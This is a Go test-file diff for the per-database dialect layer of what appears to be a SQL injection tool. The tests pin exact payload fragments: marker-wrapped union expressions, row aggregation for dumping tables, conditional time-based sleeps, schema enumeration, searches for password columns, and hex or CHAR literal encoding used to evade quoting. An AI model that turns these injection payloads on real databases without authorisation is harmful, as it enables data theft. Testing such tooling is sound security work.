@@ -52,6 +52,63 @@ func TestRegistryPostgresqlLowercase(t *testing.T) {
 	}
 }
 
+func TestRegistryMariaDB(t *testing.T) {
+	for _, name := range []string{"MariaDB", "mariadb"} {
+		d := Registry(name)
+		if d == nil {
+			t.Fatalf("Registry(%q) returned nil", name)
+		}
+		if d.Name() != "MariaDB" {
+			t.Errorf("Registry(%q).Name() = %q, want \"MariaDB\"", name, d.Name())
+		}
+	}
+}
+
+func TestRegistryAliases(t *testing.T) {
+	tests := map[string]string{
+		"MYSQL":                "MySQL",
+		"pg":                   "PostgreSQL",
+		"PgSQL":                "PostgreSQL",
+		" PostgreSQL ":         "PostgreSQL",
+		"mssql":                "MSSQL",
+		"sqlserver":            "MSSQL",
+		"SQL Server":           "MSSQL",
+		"Microsoft SQL Server": "MSSQL",
+		"oracle":               "Oracle",
+		"ORACLE":               "Oracle",
+		"sqlite3":              "SQLite",
+		"SQLite":               "SQLite",
+	}
+	for name, want := range tests {
+		d := Registry(name)
+		if d == nil {
+			t.Errorf("Registry(%q) returned nil, want %s", name, want)
+			continue
+		}
+		if d.Name() != want {
+			t.Errorf("Registry(%q).Name() = %q, want %q", name, d.Name(), want)
+		}
+	}
+}
+
+func TestFamily(t *testing.T) {
+	tests := map[string]string{
+		"MariaDB":     "MySQL",
+		"mariadb":     "MySQL",
+		"mysql":       "MySQL",
+		"postgres":    "PostgreSQL",
+		"sqlserver":   "MSSQL",
+		"CockroachDB": "PostgreSQL",
+		"crdb":        "PostgreSQL",
+		"Informix":    "Informix",
+	}
+	for name, want := range tests {
+		if got := Family(name); got != want {
+			t.Errorf("Family(%q) = %q, want %q", name, got, want)
+		}
+	}
+}
+
 func TestRegistryUnknown(t *testing.T) {
 	d := Registry("Unknown")
 	if d != nil {
@@ -65,3 +122,302 @@ func TestRegistryEmpty(t *testing.T) {
 		t.Errorf("Registry(\"\") should return nil, got %v", d)
 	}
 }
+
+func TestErrorChunkSize(t *testing.T) {
+	tests := map[string]int{
+		"MySQL":      31,
+		"MariaDB":    31,
+		"PostgreSQL": 0,
+		"MSSQL":      1024,
+		"Oracle":     0,
+		"SQLite":     0,
+	}
+	for name, want := range tests {
+		if got := Registry(name).ErrorChunkSize(); got != want {
+			t.Errorf("%s: ErrorChunkSize() = %d, want %d", name, got, want)
+		}
+	}
+}
+
+func TestErrorPayloads_CorpusIDs(t *testing.T) {
+	for _, name := range []string{"MySQL", "MariaDB", "PostgreSQL", "MSSQL", "Oracle", "SQLite"} {
+		for _, p := range Registry(name).ErrorPayloads() {
+			if p.ID == "" {
+				t.Errorf("%s/%s: missing corpus ID", name, p.Name)
+			}
+		}
+	}
+}
+
+func TestEnumerationQueries(t *testing.T) {
+	type queries struct {
+		databases, tables, columns, count string
+	}
+	tests := []struct {
+		dbms      string
+		db, table string
+		want      queries
+	}{
+		{"MySQL", "shop", "users", queries{
+			"SELECT schema_name FROM information_schema.schemata",
+			"SELECT table_name FROM information_schema.tables WHERE table_schema='shop'",
+			"SELECT column_name FROM information_schema.columns WHERE table_schema='shop' AND table_name='users'",
+			"SELECT COUNT(*) FROM `shop`.`users`",
+		}},
+		{"MySQL", "o'shop\\", "my`table", queries{
+			"SELECT schema_name FROM information_schema.schemata",
+			`SELECT table_name FROM information_schema.tables WHERE table_schema='o''shop\\'`,
+			`SELECT column_name FROM information_schema.columns WHERE table_schema='o''shop\\' AND table_name='my` + "`" + `table'`,
+			"SELECT COUNT(*) FROM `o'shop\\`.`my``table`",
+		}},
+		{"PostgreSQL", "shop", "users", queries{
+			"SELECT datname FROM pg_database",
+			"SELECT table_name FROM information_schema.tables WHERE table_schema='public' AND table_catalog='shop'",
+			"SELECT column_name FROM information_schema.columns WHERE table_catalog='shop' AND table_name='users'",
+			`SELECT COUNT(*) FROM "users"`,
+		}},
+		{"PostgreSQL", "o'shop", `my"table`, queries{
+			"SELECT datname FROM pg_database",
+			"SELECT table_name FROM information_schema.tables WHERE table_schema='public' AND table_catalog='o''shop'",
+			`SELECT column_name FROM information_schema.columns WHERE table_catalog='o''shop' AND table_name='my"table'`,
+			`SELECT COUNT(*) FROM "my""table"`,
+		}},
+		{"MSSQL", "shop", "users", queries{
+			"SELECT name FROM sys.databases",
+			"SELECT name FROM [shop]..sysobjects WHERE xtype='U'",
+			"SELECT c.name FROM [shop]..syscolumns c JOIN [shop]..sysobjects o ON c.id=o.id WHERE o.xtype='U' AND o.name='users'",
+			"SELECT COUNT(*) FROM [shop].dbo.[users]",
+		}},
+		{"MSSQL", "sh]op", "o'table", queries{
+			"SELECT name FROM sys.databases",
+			"SELECT name FROM [sh]]op]..sysobjects WHERE xtype='U'",
+			"SELECT c.name FROM [sh]]op]..syscolumns c JOIN [sh]]op]..sysobjects o ON c.id=o.id WHERE o.xtype='U' AND o.name='o''table'",
+			"SELECT COUNT(*) FROM [sh]]op].dbo.[o'table]",
+		}},
+		{"Oracle", "shop", "users", queries{
+			"SELECT username FROM all_users ORDER BY username",
+			"SELECT table_name FROM all_tables WHERE owner='SHOP' ORDER BY table_name",
+			"SELECT column_name FROM all_tab_columns WHERE owner='SHOP' AND table_name='USERS' ORDER BY column_id",
+			`SELECT COUNT(*) FROM "SHOP"."USERS"`,
+		}},
+		{"SQLite", "", "o'table", queries{
+			"SELECT name FROM pragma_database_list",
+			"SELECT name FROM sqlite_master WHERE type='table' ORDER BY name",
+			"SELECT name FROM pragma_table_info('o''table')",
+			`SELECT COUNT(*) FROM "o'table"`,
+		}},
+	}
+	for _, tt := range tests {
+		d := Registry(tt.dbms)
+		got := queries{
+			d.ListDatabasesQuery(),
+			d.ListTablesQuery(tt.db),
+			d.ListColumnsQuery(tt.db, tt.table),
+			d.CountRowsQuery(tt.db, tt.table),
+		}
+		if got != tt.want {
+			t.Errorf("%s (%q, %q):\n got  %q\n want %q", tt.dbms, tt.db, tt.table, got, tt.want)
+		}
+	}
+}
+
+func TestSearchQueries(t *testing.T) {
+	tests := []struct {
+		dbms, keyword   string
+		tables, columns string
+	}{
+		{"MySQL", "User",
+			"SELECT CONCAT(table_schema,'.',table_name) FROM information_schema.tables WHERE LOWER(table_name) LIKE '%user%'",
+			"SELECT CONCAT(table_schema,'.',table_name,'.',column_name) FROM information_schema.columns WHERE LOWER(column_name) LIKE '%user%'"},
+		{"MySQL", "o'k",
+			"SELECT CONCAT(table_schema,'.',table_name) FROM information_schema.tables WHERE LOWER(table_name) LIKE '%o''k%'",
+			"SELECT CONCAT(table_schema,'.',table_name,'.',column_name) FROM information_schema.columns WHERE LOWER(column_name) LIKE '%o''k%'"},
+		{"PostgreSQL", "pass",
+			"SELECT table_catalog||'.'||table_name FROM information_schema.tables WHERE table_schema='public' AND LOWER(table_name) LIKE '%pass%'",
+			"SELECT table_catalog||'.'||table_name||'.'||column_name FROM information_schema.columns WHERE table_schema='public' AND LOWER(column_name) LIKE '%pass%'"},
+		{"MSSQL", "pass",
+			"SELECT DB_NAME()+'.'+name FROM sysobjects WHERE xtype='U' AND LOWER(name) LIKE '%pass%'",
+			"SELECT DB_NAME()+'.'+o.name+'.'+c.name FROM syscolumns c JOIN sysobjects o ON c.id=o.id WHERE o.xtype='U' AND LOWER(c.name) LIKE '%pass%'"},
+		{"Oracle", "PASS",
+			"SELECT owner||'.'||table_name FROM all_tables WHERE LOWER(table_name) LIKE '%pass%'",
+			"SELECT owner||'.'||table_name||'.'||column_name FROM all_tab_columns WHERE LOWER(column_name) LIKE '%pass%'"},
+		{"SQLite", "pass",
+			"SELECT 'main.'||name FROM sqlite_master WHERE type='table' AND LOWER(name) LIKE '%pass%'",
+			"SELECT 'main.'||m.name||'.'||p.name FROM sqlite_master m, pragma_table_info(m.name) p WHERE m.type='table' AND LOWER(p.name) LIKE '%pass%'"},
+	}
+	for _, tt := range tests {
+		d := Registry(tt.dbms)
+		if got := d.SearchTablesQuery(tt.keyword); got != tt.tables {
+			t.Errorf("%s: SearchTablesQuery(%q)\n got  %q\n want %q", tt.dbms, tt.keyword, got, tt.tables)
+		}
+		if got := d.SearchColumnsQuery(tt.keyword); got != tt.columns {
+			t.Errorf("%s: SearchColumnsQuery(%q)\n got  %q\n want %q", tt.dbms, tt.keyword, got, tt.columns)
+		}
+	}
+}
+
+// TestWrapWithMarkers pins the marker expressions byte for byte: they are
+// the ones the union technique built itself before moving here.
+func TestWrapWithMarkers(t *testing.T) {
+	tests := []struct {
+		dbms, query, want string
+	}{
+		{"MySQL", "@@version", "CONCAT(CHAR(126),(@@version),CHAR(126))"},
+		{"MariaDB", "@@version", "CONCAT(CHAR(126),(@@version),CHAR(126))"},
+		{"PostgreSQL", "version()", "chr(126)||(version())||chr(126)"},
+		{"MSSQL", "@@version", "CHAR(126)+CAST((@@version) AS NVARCHAR(MAX))+CHAR(126)"},
+		{"Oracle", "USER", "CHR(126)||(USER)||CHR(126)"},
+		{"SQLite", "sqlite_version()", "char(126)||(sqlite_version())||char(126)"},
+	}
+	for _, tt := range tests {
+		if got := Registry(tt.dbms).WrapWithMarkers(tt.query); got != tt.want {
+			t.Errorf("%s: WrapWithMarkers(%q) = %q, want %q", tt.dbms, tt.query, got, tt.want)
+		}
+	}
+}
+
+// TestWrapRowsWithMarkers pins the row aggregates byte for byte: those of
+// MySQL, PostgreSQL, MSSQL and Oracle are the ones the union technique
+// built itself before moving here.
+func TestWrapRowsWithMarkers(t *testing.T) {
+	tests := []struct {
+		dbms, want string
+	}{
+		{"MySQL", "CONCAT(CHAR(126),(SELECT COUNT(name) FROM users),CHAR(126),(SELECT COALESCE(GROUP_CONCAT(name,CHAR(126) SEPARATOR ''),'') FROM users))"},
+		{"MariaDB", "CONCAT(CHAR(126),(SELECT COUNT(name) FROM users),CHAR(126),(SELECT COALESCE(GROUP_CONCAT(name,CHAR(126) SEPARATOR ''),'') FROM users))"},
+		{"PostgreSQL", "chr(126)||(SELECT COUNT(name) FROM users)||chr(126)||(SELECT COALESCE(string_agg((name)::text||chr(126),''),'') FROM users)"},
+		{"CockroachDB", "chr(126)||(SELECT COUNT(name) FROM users)||chr(126)||(SELECT COALESCE(string_agg((name)::text||chr(126),''),'') FROM users)"},
+		{"MSSQL", "CHAR(126)+CAST((SELECT COUNT(name) FROM users) AS NVARCHAR(MAX))+CHAR(126)+(SELECT COALESCE(STRING_AGG(CAST((name) AS NVARCHAR(MAX))+CHAR(126),''),'') FROM users)"},
+		{"Oracle", "CHR(126)||(SELECT COUNT(name) FROM users)||CHR(126)||(SELECT LISTAGG(CASE WHEN (name) IS NOT NULL THEN (name)||CHR(126) END) WITHIN GROUP (ORDER BY NULL) ON OVERFLOW TRUNCATE WITHOUT COUNT FROM users)"},
+		{"SQLite", "char(126)||(SELECT COUNT(name) FROM users)||char(126)||(SELECT COALESCE(group_concat((name)||char(126),''),'') FROM users)"},
+	}
+	for _, tt := range tests {
+		if got := Registry(tt.dbms).WrapRowsWithMarkers("name", "users"); got != tt.want {
+			t.Errorf("%s: WrapRowsWithMarkers = %q, want %q", tt.dbms, got, tt.want)
+		}
+	}
+}
+
+func TestSelectRow(t *testing.T) {
+	tests := []struct {
+		dbms, want string
+	}{
+		{"MySQL", "SELECT name FROM users LIMIT 1 OFFSET 4"},
+		{"PostgreSQL", "SELECT name FROM users LIMIT 1 OFFSET 4"},
+		{"SQLite", "SELECT name FROM users LIMIT 1 OFFSET 4"},
+		{"MSSQL", "SELECT name FROM users ORDER BY (SELECT NULL) OFFSET 4 ROWS FETCH NEXT 1 ROWS ONLY"},
+		{"Oracle", "SELECT v FROM (SELECT name v,ROWNUM r FROM users) WHERE r=5"},
+	}
+	for _, tt := range tests {
+		if got := Registry(tt.dbms).SelectRow("name", "users", 4); got != tt.want {
+			t.Errorf("%s: SelectRow(name, users, 4) = %q, want %q", tt.dbms, got, tt.want)
+		}
+	}
+}
+
+// TestSleepIf pins the MySQL, PostgreSQL and MSSQL conditional sleeps the
+// time-based technique built itself before moving here.
+func TestSleepIf(t *testing.T) {
+	tests := []struct {
+		dbms, want string
+	}{
+		{"MySQL", "IF(1=1,SLEEP(5),0)"},
+		{"MariaDB", "IF(1=1,SLEEP(5),0)"},
+		{"PostgreSQL", "1=(CASE WHEN (1=1) THEN (SELECT 1 FROM PG_SLEEP(5)) ELSE 1 END)"},
+		{"CockroachDB", "1=(CASE WHEN (1=1) THEN (SELECT 1 FROM PG_SLEEP(5)) ELSE 1 END)"},
+		{"MSSQL", "1=(CASE WHEN (1=1) THEN (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B) ELSE 1 END)"},
+		{"Oracle", "1=(CASE WHEN (1=1) THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR(95)||CHR(95)||CHR(95),5) ELSE 1 END)"},
+		{"SQLite", "1=(CASE WHEN (1=1) THEN (SELECT COUNT(*) FROM (SELECT randomblob(1000000000/5) FROM sqlite_master)) ELSE 1 END)"},
+	}
+	for _, tt := range tests {
+		if got := Registry(tt.dbms).SleepIf("1=1", 5); got != tt.want {
+			t.Errorf("%s: SleepIf(1=1, 5) = %q, want %q", tt.dbms, got, tt.want)
+		}
+	}
+}
+
+func TestLimitOffset(t *testing.T) {
+	tests := []struct {
+		dbms, query, want string
+	}{
+		{"MySQL", "SELECT name FROM users", "SELECT name FROM users LIMIT 1 OFFSET 4"},
+		{"MariaDB", "SELECT name FROM users", "SELECT name FROM users LIMIT 1 OFFSET 4"},
+		{"PostgreSQL", "SELECT name FROM users", "SELECT name FROM users LIMIT 1 OFFSET 4"},
+		{"SQLite", "SELECT name FROM users", "SELECT name FROM users LIMIT 1 OFFSET 4"},
+		{"MSSQL", "SELECT name FROM users", "SELECT name FROM users ORDER BY (SELECT NULL) OFFSET 4 ROWS FETCH NEXT 1 ROWS ONLY"},
+		{"MSSQL", "SELECT name FROM users ORDER BY id", "SELECT name FROM users ORDER BY id OFFSET 4 ROWS FETCH NEXT 1 ROWS ONLY"},
+		{"Oracle", "SELECT name FROM users", "SELECT name FROM users OFFSET 4 ROWS FETCH NEXT 1 ROWS ONLY"},
+	}
+	for _, tt := range tests {
+		if got := Registry(tt.dbms).LimitOffset(tt.query, 4, 1); got != tt.want {
+			t.Errorf("%s: LimitOffset(%q, 4, 1) = %q, want %q", tt.dbms, tt.query, got, tt.want)
+		}
+	}
+}
+
+// A paged query is a scalar subquery inside the marker expression.
+func TestLimitOffset_WrapWithMarkers(t *testing.T) {
+	tests := map[string]string{
+		"MySQL":      "CONCAT(CHAR(126),(SELECT name FROM users LIMIT 1 OFFSET 2),CHAR(126))",
+		"PostgreSQL": "chr(126)||(SELECT name FROM users LIMIT 1 OFFSET 2)||chr(126)",
+		"MSSQL":      "CHAR(126)+CAST((SELECT name FROM users ORDER BY (SELECT NULL) OFFSET 2 ROWS FETCH NEXT 1 ROWS ONLY) AS NVARCHAR(MAX))+CHAR(126)",
+	}
+	for name, want := range tests {
+		d := Registry(name)
+		if got := d.WrapWithMarkers(d.LimitOffset("SELECT name FROM users", 2, 1)); got != want {
+			t.Errorf("%s: got %q, want %q", name, got, want)
+		}
+	}
+}
+
+func TestHexString_CharEncode(t *testing.T) {
+	tests := []struct {
+		dbms, hex, chars string
+	}{
+		{"MySQL", "0x73716c", "CHAR(115,113,108)"},
+		{"MariaDB", "0x73716c", "CHAR(115,113,108)"},
+		{"PostgreSQL", "CHR(115)||CHR(113)||CHR(108)", "CHR(115)||CHR(113)||CHR(108)"},
+		{"Oracle", "CHR(115)||CHR(113)||CHR(108)", "CHR(115)||CHR(113)||CHR(108)"},
+		{"MSSQL", "CHAR(115)+CHAR(113)+CHAR(108)", "CHAR(115)+CHAR(113)+CHAR(108)"},
+		{"SQLite", "char(115,113,108)", "char(115,113,108)"},
+	}
+	for _, tt := range tests {
+		d := Registry(tt.dbms)
+		if got := d.HexString("sql"); got != tt.hex {
+			t.Errorf("%s: HexString(%q) = %q, want %q", tt.dbms, "sql", got, tt.hex)
+		}
+		if got := d.CharEncode("sql"); got != tt.chars {
+			t.Errorf("%s: CharEncode(%q) = %q, want %q", tt.dbms, "sql", got, tt.chars)
+		}
+		if got := d.HexString(""); got != "''" {
+			t.Errorf("%s: HexString(\"\") = %q, want ''", tt.dbms, got)
+		}
+	}
+}
+
+func TestHexString_NonASCII(t *testing.T) {
+	if got := Registry("MySQL").HexString("é"); got != "0xc3a9" {
+		t.Errorf("MySQL: HexString = %q, want the UTF-8 bytes 0xc3a9", got)
+	}
+	if got := Registry("MSSQL").CharEncode("a€"); got != "CHAR(97)+NCHAR(8364)" {
+		t.Errorf("MSSQL: CharEncode = %q, want NCHAR past a byte", got)
+	}
+}
+
+func TestEncodeLiterals(t *testing.T) {
+	tests := []struct {
+		dbms, sql, want string
+	}{
+		{"MySQL", "SELECT password FROM users WHERE username='admin'",
+			"SELECT password FROM users WHERE username=0x61646d696e"},
+		{"MySQL", "SELECT 'it''s'", "SELECT 0x69742773"},
+		{"MySQL", "SELECT `a'b` FROM t WHERE x=''", "SELECT `a'b` FROM t WHERE x=''"},
+		{"Oracle", `XMLType('<x>'||("USER's")||'</x>')`, `XMLType(CHR(60)||CHR(120)||CHR(62)||("USER's")||CHR(60)||CHR(47)||CHR(120)||CHR(62))`},
+		{"PostgreSQL", "SELECT 1 WHERE x='open", "SELECT 1 WHERE x='open"},
+	}
+	for _, tt := range tests {
+		if got := EncodeLiterals(Registry(tt.dbms), tt.sql); got != tt.want {
+			t.Errorf("%s: EncodeLiterals(%q)\n got  %q\n want %q", tt.dbms, tt.sql, got, tt.want)
+		}
+	}
+}